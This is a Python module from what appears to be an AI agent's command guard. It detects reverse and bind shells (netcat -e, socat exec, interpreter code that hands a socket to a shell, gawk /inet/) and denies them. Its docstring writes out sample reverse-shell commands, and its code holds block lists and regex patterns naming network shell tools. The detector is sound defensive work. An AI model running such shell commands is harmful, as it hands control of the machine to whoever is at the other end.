"""Reverse and bind shells: a shell whose input and output are a network connection, so
that whoever is at the other end types its commands.

Three shapes: a network tool told to run a program on the connection (`nc -e /bin/sh
host 4444`, `ncat --sh-exec`, `socat tcp:host:4444 exec:sh`); interpreter code that
opens a socket and hands it to a shell (`socket.connect` + `os.dup2`/`pty.spawn`, Perl
`open(STDIN, ">&S")`, PHP `fsockopen` + `exec`, Ruby `TCPSocket` + `exec`, Node
`require('net').connect(…)` piped to a spawned shell or given as its `stdio`; code that
runs the commands it reads from a socket is codefetch's); and gawk's `/inet/tcp/` special
files. bash's `/dev/tcp` redirections are `rules_files._socket`'s.
"""

from __future__ import annotations

TYPE_CHECKING = False
if TYPE_CHECKING:
    from agentops_os.guard.coderead import CodeReader
    from agentops_os.guard.scope import Scope
    from agentops_os.guard.unwrap import Call
    from agentops_os.guard.verdict import Verdict

_NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})
_EXEC_OPTIONS = ("-e", "-c", "--exec", "--sh-exec", "--lua-exec")
_SOCAT_NETWORK = ("tcp", "tcp4", "tcp6", "tcp-connect", "tcp-listen", "tcp4-listen", "tcp6-listen", "udp",
                  "udp-connect", "udp-listen", "openssl", "openssl-connect", "openssl-listen", "sctp",
                  "sctp-connect", "sctp-listen", "socks4", "socks4a", "socks5", "proxy", "vsock")
_SOCAT_PROGRAM = ("exec", "system")

# code that opens a network connection ...
_CODE_SOCKET = (r"(?:\bsocket\s*\.\s*(?:socket|create_connection)\b|\bsocket\s*\(|\bIO::Socket"
                r"|\bfsockopen\s*\(|\bTCPSocket\b|\bnet\s*\.\s*(?:connect|createConnection|Socket)\b|\bnew\s+net\.Socket\b"
                r"|\bsocket\.tcp\b|\bnet\.Dial\b|\bstream_socket_client\b|\b(?:Deno|Bun)\.connect\b"
                r"|\b(?:require|import)\s*\(\s*['\"](?:node:)?(?:net|tls)['\"]\s*\)|\bfrom\s+['\"](?:node:)?(?:net|tls)['\"])")
# ... and gives it to a shell or wires it to standard input/output
_CODE_SHELL = (r"(?:\bdup2\s*\(|\bpty\s*\.\s*spawn\b|open\s*\(\s*STDIN\b|\bSTDIN\s*->\s*fdopen"
               r"|[\"'`](?:/bin/|/usr/bin/)?(?:ba|z|da|k)?sh(?:\s+-i)?\s*(?:<&|[\"'`])|\bsh\s+-i\b"
               r"|\.pipe\s*\(\s*\w+\.stdin\b|\bstdio\s*:\s*\[|\$std(?:in|out)\.reopen\s*\(|\bSTD(?:IN|OUT)\.reopen\s*\("
               r"|\b(?:popen|system|exec|spawn)\s*\(?\s*\$_\b)")


def network_shell(judge: Scope, call: Call) -> Verdict | None:
    """`nc -e PROG`, `ncat --sh-exec CMD`, `socat NET-ADDRESS EXEC:PROG`."""
    argv = call.argv
    if call.name in _NETCATS:
        # `-c` is ncat's and traditional netcat's shell command (OpenBSD nc: TLS)
        options = _EXEC_OPTIONS if call.name in ("ncat", "nc.traditional") else ("-e", "--exec")
        for k, arg in enumerate(argv):
            option = arg.split("=", 1)[0]
            if option in options or (len(arg) > 2 and arg[0] == "-" and arg[1] != "-" and "e" in arg[1:]
                                           and arg[1:].isalpha() and k + 1 < len(argv)):
                program = arg.split("=", 1)[1] if "=" in arg else (argv[k + 1] if k + 1 < len(argv) else "")
                return _verdict(judge, f"{call.name} runs {program or 'a program'} on a network connection")
        return None
    if call.name == "socat":
        kinds = [a.split(":", 1)[0].split(",", 1)[0].lower() for a in argv if not a.startswith("-")]
        if any(k in _SOCAT_NETWORK for k in kinds) and any(k in _SOCAT_PROGRAM for k in kinds):
            return _verdict(judge, "socat connects a program to a network address")
    return None


def code_shell(judge: Scope, program: str, code: str) -> Verdict | None:
    """Interpreter code that opens a socket and hands it to a shell, or gawk `/inet/`."""
    import re

    if "/inet/tcp/" in code or "/inet/udp/" in code or "/inet4/tcp/" in code or "/inet6/tcp/" in code:
        return _verdict(judge, f"{program} code opens a network connection as a file (gawk /inet/)")
    if re.search(_CODE_SOCKET, code) and re.search(_CODE_SHELL, code):
        return _verdict(judge, f"{program} code opens a socket and hands it to a shell")
    return None


# Calls that start a program, and the shells whose standard input and output a socket may be.
_STARTS = frozenset({"spawn", "Popen", "call", "run", "popen", "popen3", "proc_open", "exec", "system",
                     "execv", "execve", "execl", "execvp", "spawnSync", "execFile", "pcntl_exec", "fork"})
_SHELL_NAMES = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "cmd", "cmd.exe", "powershell", "pwsh"})


def socket_shell(judge: Scope, call: Call, reader: CodeReader, code: str) -> Verdict | None:
    """Code that starts a shell with a socket as its standard input or output, as the
    code reader sees it (`spawn("/bin/sh", in: s, out: s)`, `Popen(["sh"], stdin=s)`)."""
    from agentops_os.guard.codenet import RECEIVED, net_of
    from agentops_os.guard.coderead import Keyword, text_of

    shell = any(t.strip().split(" ", 1)[0].rsplit("/", 1)[-1] in _SHELL_NAMES for t in reader.strings)
    if not shell:
        return None
    for dotted, _recv, args in reader.calls:
        values = [a.value if isinstance(a, Keyword) else a for a in args]
        if dotted.rsplit(".", 1)[-1] in _STARTS and any(
            net_of(v) is RECEIVED and text_of(v) is None for v in values[1:] or values
        ):
            return _verdict(judge, f"{call.name} code starts a shell on a socket")
    return None


def _verdict(judge: Scope, what: str) -> Verdict | None:
    return judge.verdict("reverse-shell", "deny", f"{what}: whoever is at the other end runs commands here")
